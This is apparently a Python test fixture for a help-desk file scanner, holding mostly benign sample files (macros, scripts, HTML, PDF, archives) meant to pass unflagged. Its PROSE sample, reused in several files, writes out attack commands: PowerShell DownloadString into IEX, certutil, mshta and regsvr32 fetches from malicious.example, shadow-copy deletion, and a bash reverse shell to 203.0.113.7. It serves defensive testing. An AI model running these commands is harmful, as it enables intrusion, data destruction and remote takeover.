"""Ordinary files of help desks that no rule may call more than a note, because nothing in them does harm."""

from __future__ import annotations

import base64
import csv
import io
import json

from app.sandbox import samples

PROSE = """\
How the attack works
====================

The mail carries a document. When it opens, its macro starts PowerShell with a hidden window, downloads a script with
(New-Object Net.WebClient).DownloadString and hands it to IEX. Others use certutil -urlcache -split -f, bitsadmin
/transfer, mshta http://malicious.example/a.hta or regsvr32 /i:http://malicious.example/a.sct scrobj.dll. To find it,
search the logs for "powershell.exe -enc" and for cmd.exe /c started by winword.exe.

Ransomware then runs "vssadmin delete shadows /all /quiet" and leaves a note that your files are encrypted. Keep your
backups offline, do not pay, and call us. A reverse shell such as bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 shows up
in the firewall's log.
"""
MACRO = """\
Attribute VB_Name = "Report"
Option Explicit

Private Sub Workbook_Open()
    Application.Calculation = xlCalculationAutomatic
    Sheets("Overview").Activate
    MsgBox "The figures are from " & Format(Date, "yyyy-mm-dd") & "." & vbCrLf & "Press F9 to refresh."
End Sub

Sub ExportTable()
    Dim target As String
    target = ThisWorkbook.Path & "\\export.csv"
    Open target For Output As #1
    Print #1, "name;" & "amount;" & "date"
    Close #1
End Sub
"""
BATCH = """\
@echo off
rem Nightly copy of the shared folder
set TARGET=\\\\server\\backup\\%DATE:~0,4%%DATE:~5,2%%DATE:~8,2%
robocopy C:\\Shared "%TARGET%" /MIR /R:2 /W:5 /LOG:C:\\Logs\\backup.log
if errorlevel 8 powershell -Command "Send-MailMessage -To admin@example.com -Subject 'Backup failed'"
"""
POWERSHELL = """\
<# Lists accounts that nobody has used for ninety days. #>
param([int]$Days = 90)
$limit = (Get-Date).AddDays(-$Days)
Get-ADUser -Filter {LastLogonDate -lt $limit} -Properties LastLogonDate |
    Select-Object Name, LastLogonDate | Export-Csv -Path .\\unused.csv -NoTypeInformation
Invoke-WebRequest -Uri https://intranet.example/api/report -Method Post -InFile .\\unused.csv
"""
FORM = """\
<!doctype html><html lang="en"><head><title>Contact us</title></head><body>
<form action="https://www.example.com/contact" method="post">
<label>Name <input type="text" name="name"></label><label>Mail <input type="email" name="mail"></label>
<textarea name="message"></textarea><button>Send</button></form>
<form action="/login" method="post"><input name="user"><input type="password" name="password"></form>
</body></html>
"""
MINIFIED = (
    '!function(e,t){"use strict";var n=t.createElement("a");function r(e){return atob(e)}var o=window.location;'
    'e.load=function(u){var x=new XMLHttpRequest;x.open("GET",u),x.onload=function(){o.hash="#"+x.status},x.send()};'
    "e.code=String.fromCharCode(72,105);e.save=function(b){n.href=URL.createObjectURL(b);n.click()}}(window,document);"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Logo</title><style>.a{fill:#123}</style>'
    '<a href="https://www.example.com/"><circle class="a" cx="5" cy="5" r="4"/></a></svg>'
)
CHART = (
    "<!doctype html><html><body><button id=save>Save</button><script>"
    "document.getElementById('save').onclick = function () {"
    "  const blob = new Blob([table.join('\\n')], {type: 'text/csv'});"
    "  const a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'table.csv'; a.click();"
    "};</script></body></html>"
)
COPY_BUTTON = (
    "<!doctype html><html><body><h1>Install the agent</h1><p>Open PowerShell as administrator and run</p>"
    "<pre id=c>powershell -ExecutionPolicy Bypass -File install.ps1</pre>"
    "<button onclick=\"navigator.clipboard.writeText(document.getElementById('c').innerText)\">Copy</button>"
    "<p>Press Ctrl + V to paste it.</p></body></html>"
)
SHELL = (
    "#!/bin/bash\nset -euo pipefail\ncurl -fsSL https://downloads.example/app.tar.gz -o a.tar.gz\ntar xzf a.tar.gz\n"
)
PYTHON = (
    '"""Fetches the report."""\nimport base64, json, socket, subprocess\n\n'
    "def fetch(host):\n    with socket.socket(socket.AF_INET) as s:\n        s.connect((host, 443))\n"
    '    return subprocess.run(["git", "rev-parse", "HEAD"], check=True)\n\nprint(base64.b64decode("SGVsbG8="))\n'
)
PHP = '<?php\n$name = htmlspecialchars($_POST["name"] ?? "");\necho "Hello, $name";\n$out = shell_exec("uptime");\n'
WSH = (
    'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "notepad.exe", 1, True\r\n'
    'MsgBox shell.ExpandEnvironmentStrings("%COMPUTERNAME%")\r\n'
)
URL_FILE = "[InternetShortcut]\r\nURL=https://www.example.com/help\r\nIconFile=https://www.example.com/favicon.ico\r\n"
INSURANCE = (
    "Dear customer,\n\nyour documents are encrypted with your date of birth. To decrypt the attachment, enter it as\n"
    "DDMMYYYY. If you want to pay by bank transfer, quote your personal ID. We do not accept bitcoin.\n"
)

SAVED_LOGIN = """\
<!-- Page saved with SingleFile url: https://mail.example.com/ -->
<!doctype html><html><head><title>Webmail</title></head><body><img src="data:image/png;base64,iVBORw0KGgo=">
<form action="/login" method="post"><input type="email"><input type="password"></form>
<script>if (location.hash) show(location.hash.slice(1));</script></body></html>
"""
TERMINAL_GUIDE = """\
<!doctype html><html><body><h1>Install the command line</h1><p>Open Terminal and paste</p>
<pre id=c>curl -fsSL https://get.example.com/install.sh | bash</pre>
<button onclick="navigator.clipboard.writeText(c.innerText)">Copy</button></body></html>
"""
WALLET_HELP = "Keep your recovery phrase to yourself. We never ask for it, and no support agent ever needs it.\n"
PARCEL = "Your parcel was handed over today. Follow it at https://post.example/track/42. Delivery is free of charge.\n"
BANK = "Our bank account details have not changed. If a letter says otherwise, call us before you pay an invoice.\n"
QUOTA = "Reminder: mailboxes hold 50 GB. Archive old messages in time. Your IT department\n"
REMOTE = "Our technicians use TeamViewer. We only connect after you have opened a ticket and read out the number.\n"
REGISTRY = 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example]\r\n"Theme"="dark"\r\n'
DESKTOP = "full address:s:terminal.example.com\r\nredirectclipboard:i:1\r\ndrivestoredirect:s:\r\n"
PACKAGE = '{"name": "site", "scripts": {"postinstall": "node scripts/build.js", "start": "next start"}}'
SETUP = (
    "from setuptools import setup\nimport subprocess\nsetup(name='x', version=subprocess.getoutput('git describe'))\n"
)
PROFILE = (
    "Invoke-WebRequest https://intranet.example/a.zip -OutFile a.zip\n" + "# setting\n" * 60 + "minikube env | iex\n"
)
HTACCESS = "RewriteEngine On\nRewriteRule ^old$ /new [R=301]\nAddType image/webp .webp\n"
CALENDAR = "BEGIN:VCALENDAR\r\nSUMMARY:Review\r\nURL:https://meet.example/42\r\nEND:VCALENDAR\r\n"


def _table() -> bytes:
    buffer = io.StringIO()
    rows = csv.writer(buffer)
    rows.writerow(["item", "amount", "formula"])
    rows.writerows([f"item {number}", -number, f"=SUM(A1:A{number})"] for number in range(200))
    return buffer.getvalue().encode()


def _pdf() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /AcroForm 4 0 R >> endobj\n"
        b"4 0 obj << /Fields [] /JS (AFNumber_Format\\(2, 0, 0, 0, '', true\\)) >> endobj\n"
        b"5 0 obj << /S /URI /URI (https://www.example.com/) >> endobj\n%%EOF"
    )


#: Name -> content.
CLEAN: dict[str, bytes] = {
    "article.txt": PROSE.encode(),
    "article.md": PROSE.encode(),
    "article.html": f"<!doctype html><html><body><pre>{PROSE}</pre></body></html>".encode(),
    "article.eml": samples.mail_with([], body=PROSE),
    "article.docx": samples.document(PROSE),
    "letter.docx": samples.document(),
    "Report.bas": MACRO.encode(),
    "backup.bat": BATCH.encode(),
    "accounts.ps1": POWERSHELL.encode(),
    "contact.html": FORM.encode(),
    "site.min.js": MINIFIED.encode(),
    "logo.svg": SVG.encode(),
    "chart.html": CHART.encode(),
    "install.html": COPY_BUTTON.encode(),
    "install.sh": SHELL.encode(),
    "report.py": PYTHON.encode(),
    "hello.php": PHP.encode(),
    "start.vbs": WSH.encode(),
    "help.url": URL_FILE.encode(),
    "insurance.txt": INSURANCE.encode(),
    "table.csv": _table(),
    "form.pdf": _pdf(),
    "picture.png": samples.png(),
    "archive.zip": samples.zip_of({"read me.txt": b"Hello", "folder/letter.docx": samples.document()}),
    "archive.tar.gz": samples.tar_of({"read me.txt": b"Hello"}),
    "data.json": json.dumps({"token": base64.b64encode(bytes(range(256)) * 40).decode()}).encode(),
    "letter.rtf": rb"{\rtf1\ansi{\fonttbl\f0 Arial;}\f0 Dear customer, see {\field{\*\fldinst HYPERLINK "
    rb'"https://www.example.com/"}{\fldrslt our site}}.}',
    "word/_rels/document.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/hyperlink" Target="https://www.example.com/" TargetMode="External"/></Relationships>',
    "backup.2026.01.tar": samples.tar_of({"a": b"b"}, compressed=False),
    "minutes v1.2.docx": samples.document("Version 1.2"),
    "empty.txt": b"",
    "webmail.html": SAVED_LOGIN.encode(),
    "terminal.html": TERMINAL_GUIDE.encode(),
    "wallet.txt": WALLET_HELP.encode(),
    "parcel.eml": samples.mail_with([], body=PARCEL),
    "bank.txt": BANK.encode(),
    "quota.txt": QUOTA.encode(),
    "remote.txt": REMOTE.encode(),
    "theme.reg": REGISTRY.encode("utf-16"),
    "terminal.rdp": DESKTOP.encode("utf-16"),
    "package.json": PACKAGE.encode(),
    "setup.py": SETUP.encode(),
    "profile.ps1": PROFILE.encode(),
    ".htaccess": HTACCESS.encode(),
    "review.ics": CALENDAR.encode(),
    "template.rtf": rb"{\rtf1\ansi {\*\template C:\\Templates\\\u-3913?letter.dotx}Dear customer.}",
    "saved.mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
    b"Content-Type: text/html\r\nContent-Location: https://www.example.com/\r\n\r\n<p>A PDF: %PDF-1.7</p>\r\n--b--\r\n",
    "ppt/slides/slide1.xml": b"<?xml version='1.0'?><p:sld><a:hlinkHover r:id='r2' action='ppaction://hlinksldjump'/></p:sld>",
    "customUI/customUI.xml": b"<?xml version='1.0'?><customUI onLoad='Ribbon.Loaded'><button onAction='Start'/>"
    b"</customUI>",
    "word/activeX/activeX1.xml": b"<?xml version='1.0'?><ax:ocx ax:classid='{8BD21D40-EC42-11CE-9E0D-00AA006002F3}'/>",
    "rename.applescript": b'set n to text returned of (display dialog "Name" default answer "")\ndo shell '
    b'script "ls"\n',
    "fetch.sh": b"#!/bin/sh\ncurl -fsSLO https://www.example.com/a.tar.gz || wget https://www.example.com/a.tar.gz\n",
}
